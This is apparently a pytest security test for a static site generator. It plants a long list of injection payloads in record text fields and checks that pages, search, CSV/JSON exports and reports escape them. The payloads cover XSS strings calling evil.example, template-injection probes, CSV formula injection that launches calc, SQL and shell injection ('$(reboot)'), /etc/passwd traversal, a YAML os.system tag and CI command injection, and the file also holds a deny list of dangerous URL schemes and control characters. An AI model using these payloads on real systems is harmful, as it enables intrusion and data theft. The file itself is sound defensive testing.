"""Text from a record is data everywhere: in pages, tables, search and reports, whatever it looks like.

A city is built twice: with harmless words in every text field of every record, and with what somebody
could write there to take over a page. Apart from these texts the two sites must be the same: every page
letter by letter, with each text escaped, and where nothing but plain text or the value of an attribute in
quotes can be. Parsers then look at as many pages as show every field in every element that it stands in.
Every text ends in ``㊀`` and its number: so it is found again and compared character by character.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest
from markupsafe import escape

from generator.cli.serve import Shown, serving
from generator.model.diagnostic import Severity
from generator.model.drawing import PLAN, plan_digest
from generator.pipeline import check
from generator.publish.search import FOLDER, index
from generator.read.sources import Memory
from generator.render.office.wording import clean
from tests.support.bulletins import reissue
from tests.support.searching import search
from tests.support.sheets import sheet
from tests.support.site import (
    Built,
    build_here,
    kind_of,
    load,
    page_files,
    published_files,
    record_files,
    save,
    schemas,
)
from tests.support.terminal import Run

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PAYLOADS = (
    # --- elements and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=java&Tab;script&colon;alert(1)></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript&colon;alert(1)>点我</a>",
    "<b>粗</b><i>斜</i><u>线</u>",
    "<math><mtext></mtext><mglyph><svg><mtext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><slot name=x></slot></template>",
    "<x-tag onclick=alert(1)>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><html><body>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style></textarea></select></table>",
    "</td></tr></table><h1>假标题</h1>",
    "</article></main></body></html>",
    "</a></span></div></p>",
    "</option></select>",
    # --- elements and handlers that filters have overlooked
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\\x3dalert(1)>",
    '<img src="x" onerror="alert&lpar;1&rpar;">',
    "<img srcset=x onerror=alert(1) alt=校徽>",
    "<ImG sRc=x OnErRoR=alert`1`>",
    "<<img src=x onerror=alert(1)//<",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href=//evil.example><text>点我</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><style>@import '//evil.example/x.css';</style>",
    "<math href=//evil.example>式</math>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>提交</button>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=//evil.example>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<dialog open>假提示</dialog>",
    "<table background=//evil.example/x.png>",
    "<div style=background:url(//evil.example/x.png)>",
    "<div style='width:expression(alert(1))'>",
    "<a href=//evil.example target=_blank ping=//evil.example>点我</a>",
    "<a href='https://evil.example' rel=opener>点我</a>",
    "<label for=search>搜索</label>",
    "<h1>假标题</h1><p>假正文</p>",
    "<br><hr><wbr>",
    "<plaintext>",
    "<xmp><listing>",
    "<frameset onload=alert(1)><frame src=x>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<select><template shadowrootmode=open><script>alert(1)</script>",
    "<p id=__md_scope data-md-component=announce>",
    # --- out of an attribute
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" style="position:fixed;inset:0',
    '" data-slot="content',
    "x onclick=alert(1) y",
    "`onclick=alert(1)`",
    "' style='color:red' x='",
    '" autofocus tabindex=1 onfocus="alert(1)',
    '"/><script>alert(1)</script><x y="',
    "' -- \" /> <b",
    '" hidden aria-hidden="true',
    '" href="//evil.example" x="',
    # --- addresses
    "javascript&colon;alert(1)",
    "java\\x73cript:alert(1)",
    "mailto:x?body=1",
    "//evil.example/x",
    "https://evil.example/?a=1&b=2",
    "../../../../etc/passwd",
    "\\\\server\\share",
    "#top?x=1&copy=2",
    "j&#97;vascript&#58;alert(1)",
    "https:evil.example",
    "/\\evil.example",
    "%2F%2Fevil.example",
    "www.evil.example",
    "?x=<script>&y=1#<b>",
    # --- entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "&#x3c;b&#x3e;",
    "&amp;amp;&nbsp;&copy",
    "A&B;C&D",
    "&",
    # --- template and marker languages
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in y %}{% endfor %}",
    "{% raw %}",
    "{# 注释 #}",
    "{% include 'macros.html.j2' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d",
    "{name} {0} {}",
    "{count:>1000000}",
    "[[ 7*7 ]]",
    "@@title@@",
    "@@provenance@@",
    "@@head@@@@notice@@",
    "@@title",
    '<div data-slot="content">x</div>',
    "data-slot=x",
    "[SEARCH_TERM] [COUNT]",
    '--8<-- "mkdocs.yml"',
    "-8<- records/bureau.yml",
    "::: generator.pipeline",
    "!!! danger 假警告",
    "???+ note",
    ":material-account:",
    # --- Markdown
    "[点我](//evil.example)",
    "![图](//evil.example/x.png)",
    "<https://evil.example>",
    "**粗** _斜_ `码` ~~删~~",
    "# 标题",
    "## 标题 {: #x onclick=alert(1)}",
    "| 甲 | 乙 | 丙 |",
    "|---|---|",
    "- [ ] 项",
    "1. 项",
    "> 引",
    "```html",
    "~~~",
    "[^1]: 注",
    "*[HTML]: 超文本",
    "[甲]: //evil.example",
    "***",
    "\\*不是斜体\\*",
    "$x^2$ $$y$$ \\(z\\)",
    "[点我](<//evil.example> '题')",
    "[点我][甲] ![图][甲]",
    "<script>",
    '=== "选项"',
    "+++ 层",
    "==亮== ^^上^^ H~2~O",
    "++ctrl+c++",
    "(c) (tm) --> 1/2",
    "{++加++}{--减--}{>>注<<}",
    "[[内链]] [[TOC]] [TOC]",
    "<details markdown='1'>",
    "!!python/name:os.system",
    # --- spreadsheets
    '=HYPERLINK("//evil.example","点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "=IMPORTXML(1)",
    "＝1＋1",
    '甲;乙,丙"丁"',
    '"甲","乙"',
    "=cmd|'/C calc'!A0",
    "\u2212\u0031+1",
    "＠SUM(1)",
    "%0A=1+1",
    # --- scripts and shells
    "'; DROP TABLE schools; --",
    "$(reboot) `reboot` | reboot",
    "\\x3cscript\\x3e \\u003cscript\\u003e",
    "\\",
    "\\n\\t\\0",
    "%3Cscript%3E%00",
    "__proto__ constructor toString",
    "null undefined NaN true",
    "::error file=x,line=1::假",
    "##[error]假",
    "::set-output name=x::y",
    "@everyone #1 GH-1",
    # --- writing
    "שלום مرحبا",
    "😀🎉𠮷𪚥",
    "e\u0301a\u0308 ﬁ ﷺ",
    "ＡＢＣ１２３，。！",
    "İıſK",
    "„“”‚‘’«»",
    "–—−‑",
    "\u3000",
    "a" * 60,
    "甲乙丙丁戊己庚辛" * 6,
)
"""Things to write into a field; more than eight characters of room are needed for the number after them."""

CLEAN = frozenset(p for p in PAYLOADS if clean(p) == p)
"""Those that an official document prints as they are."""

REFUSED = {
    "\x1b[31m红\x1b[0m": "YML005",
    "\x07": "YML005",
    "甲\x00乙": "YML005",
    "\u202e反": "YML007",
    "\u2066隔\u2069": "YML007",
    "零\u200b宽": "YML008",
    "软\u00ad连": "YML008",
    "私\ufffe用": "YML009",
    "坏\ufffd字": "YML010",
    "http://evil.example/": "TXT005",
    "javascript:alert(1)": "TXT005",
    "<a href=JaVaScRiPt:alert(1)>点我</a>": "TXT005",
    "[点我](javascript:alert(1))": "TXT005",
    "vbscript:msgbox(1)": "TXT005",
    "data:text/html,<script>alert(1)</script>": "TXT005",
    "[点我](data:text/html;base64,PHNjcmlwdD4=)": "TXT005",
    "受到表" + "彰": "AWD008",
}
"""What no text may hold, and by which code it is refused."""

EXCEPT = {"bureau.organ_codes[].series", "bureau.organ_codes[].code", "documents.number", "documents.series"}
"""Texts with rules of their own: document numbers and what they are checked against."""

CITING = ("bulletins.sections",)
"""Texts in which a brace begins the citation of a figure (BUL002)."""

TABLES = ("bulletins.issued.tables",)
"""Cells of official documents: how a column is laid out depends on whether its cells are short."""

FOLLOWS = {"projects.result.measure": ("goal", "measure")}
"""Texts that must say the same as another of their record."""

MOST = {"nominations.merit": 100}
"""Texts whose length the method of the year decides."""

MARK = re.compile(r"㊀(\d{5})")
HEXADECIMAL = re.compile(r"[0-9a-f]{12,}")


@dataclass(frozen=True)
class Twins:
    """Two sites of one city; number -> the text that stands in each, and the field that it was written to."""

    mild: Built
    wild: Built
    mild_texts: Mapping[str, str]
    wild_texts: Mapping[str, str]
    fields: Mapping[str, str]


def text_fields(schema: Mapping[str, Any], data: Any, path: str) -> Iterator[tuple[Any, Any, str, int]]:
    """Container, key, path and room of every text in *data* that its writer is free in."""
    if schema.get("type") == "array" and isinstance(data, list):
        for index, value in enumerate(data):
            if isinstance(value, str) and is_free(schema["items"]):
                yield data, index, f"{path}[]", schema["items"].get("maxLength", 100)
            yield from text_fields(schema["items"], value, f"{path}[]")
    elif schema.get("type") == "object" and isinstance(data, dict):
        for name, below in schema.get("properties", {}).items():
            place = f"{path}.{name}"
            if isinstance(data.get(name), str) and is_free(below):
                yield data, name, place, below.get("maxLength", 100)
            yield from text_fields(below, data.get(name), place)


def is_free(schema: Mapping[str, Any]) -> bool:
    """May anything be written there?"""
    closed = ("pattern", "format", "oneOf", "enum", "const", "x-reference", "x-document-number", "$ref")
    return schema.get("type") == "string" and not any(word in schema for word in closed)


def enrich(root: Path) -> None:
    """Give every record a note, and the city what a small one lacks: withdrawn and cancelled records.

    Awards name no nomination, whose words they would have to repeat.
    """
    for path in record_files(root):
        data = load(path)
        data["note"] = "说明"
        if kind_of(path, root) == "awards":
            data.pop("nomination", None)
        save(path, data)
    award, *_ = sorted((root / "records" / "awards").rglob("*.yml"))
    save(award, load(award) | {"withdrawn": {"date": "2025-12-09", "reason": "重复"}})
    hazards = [load(p) for p in sorted((root / "records" / "hazards").rglob("*.yml"))]
    needed = {hazard.get("inspection") for hazard in hazards}
    done, other, *_ = (
        p
        for p in sorted((root / "records" / "inspections").rglob("*.yml"))
        if load(p)["status"] == "done" and p.stem not in needed
    )
    save(done, load(done) | {"withdrawn": {"date": "2025-12-09", "reason": "录错"}})
    found = ("date", "results", "findings", "checklist_digest", "strengths", "summary")
    cancelled = {k: v for k, v in load(other).items() if k not in found}
    save(other, cancelled | {"status": "cancelled", "cancelled": {"date": "2025-12-09", "reason": "停课"}})


def plant(root: Path) -> tuple[dict[str, str], dict[str, str], dict[str, dict[str, Any]]]:
    """The records of *root* by path with wild texts in them; before them the texts and their fields."""
    wild: dict[str, str] = {}
    fields: dict[str, str] = {}
    records = {}
    turn: dict[str, int] = {}
    for path in published_files(root):
        kind = kind_of(path, root)
        data = json.loads(json.dumps(load(path), default=float))
        for box, key, place, room in text_fields(schemas()[kind].raw, data, kind):
            room = MOST.get(place, room)
            fitting = [p for p in PAYLOADS if len(p) + 6 <= room]
            if place.startswith(CITING):
                fitting = [p for p in fitting if not set("{}") & set(p)]
            if place.startswith("bulletins."):
                fitting = [p for p in fitting if p in CLEAN]
            if place.startswith(TABLES):
                fitting = [p for p in fitting if len(p) > 10]
            if place in FOLLOWS:
                other, field = FOLLOWS[place]
                box[key] = data[other][field]
            if place in EXCEPT or place in FOLLOWS or not fitting or is_bound(data, place):
                continue
            turn[place] = turn.get(place, len(turn)) + 1
            number = f"{len(wild):05d}"
            fields[number] = place
            wild[number] = box[key] = f"{fitting[turn[place] % len(fitting)]}㊀{number}"
        records[path.relative_to(root).as_posix()] = data
    return wild, fields, records


def harmless_ones(wild: Mapping[str, str]) -> dict[str, str]:
    """Number -> a text of the same length, such that sorting gives the same order."""
    return {
        number: chr(0x4E00 + rank) + "文" * (len(wild[number]) - 7) + f"㊀{number}"
        for rank, number in enumerate(sorted(wild, key=wild.__getitem__))
    }


def translated(value: Any, words: Mapping[str, str]) -> Any:
    """*value* with other texts in place of those in *words*."""
    if isinstance(value, dict):
        return {key: translated(one, words) for key, one in value.items()}
    if isinstance(value, list):
        return [translated(one, words) for one in value]
    return words.get(value, value) if isinstance(value, str) else value


def is_bound(data: Mapping[str, Any], place: str) -> bool:
    """Does the text belong to the plan of an opened draw? With another plan that has another result."""
    kind, field = place.split(".")[:2]
    return kind == "draws" and "opened" in data and field.removesuffix("[]") in PLAN


def write_records(root: Path, records: Mapping[str, dict[str, Any]]) -> None:
    """Save records; draws and bulletins get the digests of what they now have, the register their titles."""
    titles = {
        d["issued"]["number"]: d["title"] for d in records.values() if "bulletin_kind" in d and "issued" in d
    }
    for path, data in records.items():
        if path.startswith("records/documents/") and data.get("number") in titles:
            data["title"] = titles[data["number"]]
        if "plan_digest" in data:
            exact = json.loads(json.dumps(data, default=float), parse_float=Decimal)
            data["plan_digest"] = plan_digest(exact)
        save(root / path, data)
    reissue(root)


@pytest.fixture(scope="module")
def twins(village: Path, tmp_path_factory: pytest.TempPathFactory) -> Twins:
    """The two cities, built."""
    base = tmp_path_factory.mktemp("twins")
    mild, wild = base / "mild", base / "wild"
    shutil.copytree(village, mild, symlinks=True)
    enrich(mild)
    shutil.copytree(mild, wild, symlinks=True)
    wild_texts, fields, records = plant(wild)
    assert {text[:-6] for text in wild_texts.values()} == set(PAYLOADS), "not every payload found a field"
    mild_texts = harmless_ones(wild_texts)
    write_records(wild, records)
    write_records(mild, translated(records, {text: mild_texts[n] for n, text in wild_texts.items()}))
    sites = build_here(mild, base / "a"), build_here(wild, base / "b")
    for built in sites:
        unbreak(built)
    return Twins(*sites, mild_texts, wild_texts, fields)


def unbreak(built: Built) -> None:
    """Take out where a title may be broken, which depends on its words; in a text it would be escaped."""
    for path in page_files(built.site):
        content = path.read_bytes()
        if b"<wbr>" in content:
            path.write_bytes(content.replace(b"<wbr>", b""))


def numbered(text: str, texts: Mapping[str, str]) -> str:
    """*text* with each planted text that stands there whole replaced by its number, and without digests."""
    text = HEXADECIMAL.sub(without_digest, text)
    if "㊀" not in text:
        return text
    parts, end = [], 0
    for match in MARK.finditer(text):
        whole = texts[match[1]]
        start = match.end() - len(whole)
        if start >= end and text[start : match.end()] == whole:
            parts.append(f"{text[end:start]}⟦{match[1]}⟧")
            end = match.end()
    return "".join([*parts, text[end:]])


def without_digest(match: re.Match[str]) -> str:
    """What stands for a digest: a word of 12 to 64 figures with a letter among them, or 16 after an ``@``."""
    word, text = match[0], match.string
    before, after = text[max(match.start() - 1, 0) : match.start()], text[match.end() : match.end() + 1]
    is_whole = len(word) <= 64 and not re.match(r"\w", before) and not re.match(r"\w", after)
    is_digest = not word.isdigit() or (len(word) == 16 and before == "@")
    return "⟦digest⟧" if is_whole and is_digest else word


def settled(value: Any, texts: Mapping[str, str]) -> Any:
    """*value* with the planted texts in all its strings replaced by their numbers."""
    if isinstance(value, str):
        return numbered(value, texts)
    if isinstance(value, list | tuple):
        return [settled(one, texts) for one in value]
    if isinstance(value, dict):
        return {key: settled(one, texts) for key, one in value.items()}
    return value


def first_difference(mild: list[Any], wild: list[Any]) -> str:
    """Where two lists of tokens part, or "" where they are equal."""
    for one, other in zip(mild, wild, strict=False):
        if one != other:
            return f"{str(one)[:300]} ≠ {str(other)[:300]}"
    return "" if len(mild) == len(wild) else f"{len(mild)} ≠ {len(wild)} tokens"


# Its lines say what is noticeable about the texts themselves, so the two differ in their number.
NOTICED = "quality/index.html"


class Place(NamedTuple):
    """Where on a page a text stands: the kind of page, the element, the attribute if it is in one."""

    page: str
    element: str
    attribute: str

    @property
    def is_inert(self) -> bool:
        """Can nothing stand there but text, whatever it says?"""
        if self.attribute:
            return self.attribute in INERT or self.attribute.startswith("data-")
        return self.element.partition(" ")[0] not in ("script", "style", "iframe", "noscript", "!--")


INERT = ("title", "aria-label", "content", "alt", "value", "placeholder", "label")
OPEN_ATTRIBUTE = re.compile(r'\s([\w:-]+)="[^"]*$')


@pytest.fixture(scope="module")
def harmless(twins: Twins) -> dict[str, str]:
    """Path -> content of every page with harmless texts, these replaced by their numbers."""
    texts = {number: str(escape(text)) for number, text in twins.mild_texts.items()}
    return {
        path.relative_to(twins.mild.site).as_posix(): numbered(path.read_text(encoding="utf-8"), texts)
        for path in page_files(twins.mild.site)
    }


@pytest.fixture(scope="module")
def places(harmless: dict[str, str]) -> dict[str, set[tuple[str, Place]]]:
    """Path -> the number of every text on the page, with the place where it stands."""
    found: dict[str, set[tuple[str, Place]]] = {}
    for path, html in harmless.items():
        folder, *below = path.split("/")
        kind = f"{folder}/*" if len(below) > 1 else folder
        found[path] = {(m[1], place_of(html, m.start(), kind)) for m in re.finditer(r"⟦(\d{5})⟧", html)}
    return found


def place_of(html: str, at: int, page: str) -> Place:
    """The place of a text at that position; fails where an attribute there has no quotes."""
    start = html.rindex("<", 0, at)
    if (end := html.find(">", start, at)) >= 0:
        return Place(page, html[start + 1 : end], "")
    attribute = OPEN_ATTRIBUTE.search(html, start, at)
    assert attribute, html[start : at + 7]
    return Place(page, html[start + 1 : at].split()[0], attribute[1])


def few(wanted: Mapping[str, Iterable[object]]) -> list[str]:
    """Pages that have together everything that all pages have."""
    sets = {path: set(things) for path, things in wanted.items()}
    left = set().union(*sets.values())
    chosen = []
    while left:
        path = max(sets, key=lambda p: len(sets[p] & left))
        chosen.append(path)
        left -= sets[path]
    return chosen


@pytest.fixture(scope="module")
def chosen(twins: Twins, places: dict[str, set[tuple[str, Place]]]) -> list[str]:
    """Pages that show every field in every place where any page shows it."""
    return few(
        {
            path: {(twins.fields[number], structure(place)) for number, place in shown}
            for path, shown in places.items()
        }
    )


def structure(place: Place) -> Place:
    """What scripts and styles can tell it from others by: not the page, and of its attributes the classes."""
    classes = re.search(r'class="([^"]*)"', place.element)
    return place._replace(page="", element=f"{place.element.split()[0]}.{classes[1] if classes else ''}")


def test_pages_differ_in_their_texts_only(
    twins: Twins, harmless: dict[str, str], places: dict[str, set[tuple[str, Place]]]
) -> None:
    """To the letter, on every page, and every text where it cannot be anything else than text."""
    texts = {number: str(escape(text)) for number, text in twins.wild_texts.items()}
    wild = {path.relative_to(twins.wild.site).as_posix(): path for path in page_files(twins.wild.site)}
    assert wild.keys() == harmless.keys()
    faults = []
    for path, ours in harmless.items():
        theirs = numbered(wild[path].read_text(encoding="utf-8"), texts)
        if path != NOTICED and ours != theirs:
            faults.append(f"{path}: {first_difference(ours.splitlines(), theirs.splitlines())}")
    assert not faults, "\n".join(faults[:10])
    assert {place for shown in places.values() for _, place in shown if not place.is_inert} == set()
    assert len({number for shown in places.values() for number, _ in shown}) > 500


def test_a_parser_sees_the_same(twins: Twins, chosen: list[str]) -> None:
    """One of another make than the browser's: each text stands where its twin does."""
    faults = []
    for path in (path for path in chosen if path != NOTICED):
        mild, wild = (sheet(built.site / path).pieces for built in (twins.mild, twins.wild))
        differing = [(one, other) for one, other in zip(mild, wild, strict=False) if one is not other]
        ours = settled([one.tokens for one, _ in differing], twins.mild_texts)
        theirs = settled([other.tokens for _, other in differing], twins.wild_texts)
        if difference := len(mild) != len(wild) or first_difference(ours, theirs):
            faults.append(f"{path}: {difference}")
    assert not faults, "\n".join(faults[:10])
    assert len(chosen) > 50


def test_the_page_of_what_is_noticed_gets_no_new_markup(twins: Twins, chosen: list[str]) -> None:
    """More lines are fine there, another kind of element or attribute is not."""
    mild, wild = (sheet(built.site / NOTICED).names for built in (twins.mild, twins.wild))
    allowed = set().union(*(sheet(twins.mild.site / path).names for path in chosen))
    assert wild <= mild | allowed


def test_a_browser_sees_the_same(twins: Twins, chosen: list[str], browser: Browser) -> None:
    """Chromium's own parser decides what is an element; nothing is run and nothing is fetched here."""
    script = """html => {
        const list = [];
        const walk = node => {
            if (node.nodeType === 3) list.push(node.data);
            else if (node.nodeType === 8) list.push("comment", node.data);
            else list.push(node.nodeName, ...Array.from(node.attributes || [], a => [a.name, a.value])
                .flat());
            const inside = node instanceof HTMLTemplateElement ? node.content : node;
            for (const child of inside.childNodes) walk(child);
        };
        walk(new DOMParser().parseFromString(html, "text/html"));
        return list.join("\u0001");
    }"""
    page = browser.new_page()
    faults = []
    for path in chosen:
        mild, wild = (
            numbered(page.evaluate(script, (built.site / path).read_text(encoding="utf-8")), texts)
            for built, texts in ((twins.mild, twins.mild_texts), (twins.wild, twins.wild_texts))
        )
        if path != NOTICED and mild != wild:
            difference = first_difference(mild.split("\u0001"), wild.split("\u0001"))
            faults.append(f"{path}: {difference}")
    page.close()
    assert not faults, "\n".join(faults[:10])


# What a reader can do on any page: write into every box that sifts, choose in every list, sort every column.
USE = """() => {
    const seen = node => node.checkVisibility() && node.getBoundingClientRect().width > 0;
    const all = selector => Array.from(document.querySelectorAll(selector)).filter(seen);
    const set = (node, value) => {
        node.focus();
        node.value = value;
        for (const kind of ["input", "change"]) node.dispatchEvent(new Event(kind, { bubbles: true }));
    };
    const boxes = all("[data-filter], .find input, .sieve [name=q]");
    for (const box of boxes) for (const text of ["文", ""]) set(box, text);
    const lists = all(".table-facet, .sieve select");
    for (const list of lists) for (const one of [...Array.from(list.options).slice(-3), list.options[0]]) {
        set(list, one.value);
    }
    const sorters = all(".sorter");
    for (const sorter of sorters) sorter.click();
    return boxes.length + lists.length + sorters.length;
}"""


CONTROLS = re.compile(
    r'data-filter|data-facet="[^"]*"|class="(?:find|sieve|[^"]*records--cards)[^"]*"|<details|<select'
)


@pytest.fixture(scope="module")
def opened(twins: Twins, places: dict[str, set[tuple[str, Place]]]) -> list[str]:
    """Addresses of pages that have together every control, and texts in all that a script can tell apart."""
    wanted: dict[str, set[object]] = {
        path: {structure(place) for _, place in shown} for path, shown in places.items()
    }
    for path in page_files(twins.wild.site):
        controls = CONTROLS.findall(path.read_text(encoding="utf-8"))
        wanted.setdefault(path.relative_to(twins.wild.site).as_posix(), set()).update(controls)
    paths = few(wanted)
    return [path.removesuffix("index.html") for path in paths]


@pytest.fixture(scope="module")
def searched(twins: Twins, chosen: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    """The search of the wild site, made of the chosen pages: every field is there in every place of its own.

    The index holds words by page, one page as any other, so that hundreds more of them would show the same.
    """
    pages = tmp_path_factory.mktemp("searched")
    for path in (path for path in chosen if path.endswith("index.html")):
        (pages / path).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(twins.wild.site / path, pages / path)
    assert index(pages, "zh"), "no Pagefind"
    shutil.move(pages / FOLDER, twins.wild.site / FOLDER)


@pytest.mark.usefixtures("searched")
def test_a_browser_runs_nothing_and_asks_nobody(twins: Twins, opened: list[str], browser: Browser) -> None:
    """Pages opened as a reader does, with our own scripts at work on the texts."""
    spoken: list[str] = []
    asked: list[str] = []
    used = 0
    with serving(Shown(twins.wild.site), "127.0.0.1", 0) as address:
        window = browser.new_context(reduced_motion="reduce")  # nothing here asks how things move
        page = window.new_page()
        page.on("dialog", lambda dialog: (spoken.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: spoken.append(str(error)))
        page.on("request", lambda request: asked.append(request.url))
        for path in opened:
            page.goto(address + path, wait_until="domcontentloaded")
            used += page.evaluate(USE)
        page.goto(address)
        for words in ("alert", "script", "onerror", "evil", "㊀"):
            paths, _ = search(page, words)
            assert paths, words
            foreign = page.locator(".search-dialog").locator(
                "img, iframe, script, svg[onload], [onerror], [onload]"
            )
            assert foreign.count() == 0, words
        window.close()
    assert spoken == []
    assert [url for url in asked if not url.startswith((address, "data:", "blob:"))] == []
    assert used > 50


def test_tables_hold_the_texts_as_they_are(twins: Twins) -> None:
    """JSON to the letter; CSV too, but for a sign in front of what a spreadsheet would compute."""
    defused = 0
    for path in sorted((twins.mild.site / "data").glob("*.json")):
        mild = settled(json.loads(path.read_bytes()), twins.mild_texts)
        wild = settled(json.loads((twins.wild.site / "data" / path.name).read_bytes()), twins.wild_texts)
        assert first_difference(mild.get("rows", []), wild.get("rows", [])) == "", path.name
    for path in sorted((twins.mild.site / "data").glob("*.csv")):
        mild_rows = rows(path, twins.mild_texts)
        wild_rows = rows(twins.wild.site / "data" / path.name, twins.wild_texts)
        assert len(mild_rows) == len(wild_rows), path.name
        for ours, theirs in zip(mild_rows, wild_rows, strict=True):
            for one, other in zip(ours, theirs, strict=True):
                assert other.removeprefix("'") == one, f"{path.name}: {one} ≠ {other}"
                match = re.match(r"'?⟦(\d{5})⟧", other)
                if match:
                    formula = twins.wild_texts[match[1]][0] in "=+-@\t\r＝＋－＠"
                    assert other.startswith("'") == formula, twins.wild_texts[match[1]]
                    defused += formula
    assert defused > 50


def rows(path: Path, texts: Mapping[str, str]) -> list[list[str]]:
    """The cells of a CSV file, settled."""
    reader = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    return [[numbered(cell, texts) for cell in row] for row in reader]


@pytest.mark.parametrize("form", ["text", "json", "github", "markdown"])
def test_reports_are_not_steered_by_texts(twins: Twins, run: Run, form: str) -> None:
    """What stands in a record begins no line of a log and no command of a forge."""
    code, shown, _ = run("--root", twins.wild.root, "check", "--format", form)
    assert code == 0
    for line in shown.splitlines():
        assert not re.match(r"(::(?!warning |notice |error file=records/)|##\[)", line), line
        assert "\x1b" not in line
        if form == "markdown":
            assert not re.search(r"(?<![\\`])<(?!br>)[a-zA-Z/!]", re.sub(r"`[^`]*`", "", line)), line


FORMS = {"escaped": json.dumps, "plain": '"{}"'.format}
"""Ways to write such a text."""


@pytest.fixture(scope="module")
def refused(town: Path) -> set[tuple[str, str]]:
    """Path and code of every error in a city where each of those texts stands, either way, in a record."""
    award = next(p for p in record_files(town) if kind_of(p, town) == "awards")
    files = {f"schemas/{p.name}": p.read_bytes() for p in (town / "schemas").iterdir()}
    files["records/bureau.yml"] = (town / "records" / "bureau.yml").read_bytes()
    for number, text in enumerate([*REFUSED, "说明"]):
        for form, write in FORMS.items():
            content = award.read_text(encoding="utf-8").replace(award.stem, f"a-{form}-{number}")
            files[path_of(number, form)] = f"{content}note: {write(text)}\n".encode()
    found = check(Memory(files)).diagnostics
    return {(d.location.path, d.code) for d in found if d.severity is Severity.ERROR}


def path_of(number: int, form: str) -> str:
    """Where the text of that number stands."""
    return f"records/awards/2025/a-{form}-{number}.yml"


@pytest.mark.parametrize(("text", "code"), REFUSED.items(), ids=map(ascii, REFUSED))
@pytest.mark.parametrize("form", FORMS)
def test_what_no_reader_could_see_is_refused(
    refused: set[tuple[str, str]], text: str, code: str, form: str
) -> None:
    """Signs that cannot be seen, or change how others are seen, never come into a site."""
    assert (path_of(list(REFUSED).index(text), form), code) in refused


@pytest.mark.parametrize("form", FORMS)
def test_what_can_be_seen_is_not_refused_for_that(refused: set[tuple[str, str]], form: str) -> None:
    """The same record with a harmless note has none of these errors."""
    assert {code for path, code in refused if path == path_of(len(REFUSED), form)} & {
        *REFUSED.values()
    } == set()
